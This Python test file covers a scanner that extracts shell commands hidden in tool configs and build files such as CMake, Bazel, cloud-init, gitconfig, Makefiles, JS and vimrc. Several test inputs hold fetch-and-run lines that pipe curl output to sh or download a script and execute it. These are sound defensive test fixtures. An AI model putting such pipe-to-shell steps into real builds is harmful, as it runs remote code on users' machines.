"""The command extractors of ``analyzers/embedded_cmds``: what each tool config or build file yields as shell."""

from __future__ import annotations

from skillyard.model import SkillFile
from skillyard.scan.analyzers.embedded_cmds import embedded_commands
from skillyard.scan.analyzers.view import build_view
from skillyard.scan.options import ScanOptions
from skillyard.spec import load_skill


def _snippets(path: str, text: str) -> list[tuple[int, str]]:
    md = "---\nname: t\ndescription: t\n---\n\nt\n"
    skill = load_skill("t", [SkillFile("SKILL.md", md.encode()), SkillFile(path, text.encode())], location="t")
    view = build_view(skill, ScanOptions())
    embedded_commands(view)
    return [(s.line, s.text) for s in view.snippets if s.origin == "embedded" and s.file == path]


def test_git_alias_bang_and_plain_alias() -> None:
    got = _snippets("a.gitconfig", '[alias]\n  lg = log --oneline\n  up = "!git fetch && git rebase"\n')
    assert got == [(3, "git fetch && git rebase")]


def test_ssh_local_command() -> None:
    got = _snippets("ssh_config", "Host x\n  LocalCommand echo hi\n  ProxyJump j\n")
    assert got == [(2, "echo hi")]


def test_cloud_init_runcmd_list_and_mapping_items() -> None:
    text = '#cloud-config\nruncmd:\n  - [sh, -c, "echo a"]\n  - X=$(curl -H "k: v" http://h)\n'
    got = [t for _, t in _snippets("user-data.yaml", text)]
    assert got == ["sh -c 'echo a'", 'X=$(curl -H "k: v" http://h)']


def test_cmake_sh_c_with_set_variable() -> None:
    text = 'set(U "https://h/x")\nexecute_process(COMMAND sh -c "curl ${U} | sh" OUTPUT_QUIET)\n'
    assert _snippets("deps.cmake", text) == [(2, "curl https://h/x | sh")]


def test_cmake_unclosed_call_yields_nothing() -> None:
    assert _snippets("CMakeLists.txt", "execute_process(COMMAND echo hi\n" * 2000) == []


def test_pbxproj_shell_script_is_unescaped() -> None:
    got = _snippets("p.pbxproj", 'shellScript = "echo \\"a\\"\\nls\\n";\n')
    assert got == [(1, 'echo "a"\nls\n')]


def test_bazel_download_then_execute_is_one_snippet() -> None:
    text = 'def _i(r):\n    r.download(url = "https://h/s.sh", output = "s.sh")\n    r.execute(["./s.sh", "x"])\n'
    assert _snippets("r.bzl", text) == [(2, "curl -fsSL -o s.sh https://h/s.sh\n./s.sh x")]


def test_makefile_parse_time_shell_but_not_recipe() -> None:
    got = _snippets("x.mk", "V := $(shell git describe)\nall:\n\techo $(shell date)\n")
    assert got == [(1, "git describe")]


def test_js_pipeline_literal_only_with_child_process() -> None:
    text = "const u = 'x';\nconst c = `curl -s ${u} | sh`;\n"
    assert _snippets("e.js", text) == []
    assert _snippets("e.js", "require('child_process');\n" + text) == [(3, "curl -s $u | sh")]


def test_vim_system_and_bang() -> None:
    got = _snippets("vimrc", 'set nu\ncall system("make tags")\n" !comment\nsilent !ctags -R\n')
    assert got == [(2, "make tags"), (4, "ctags -R")]
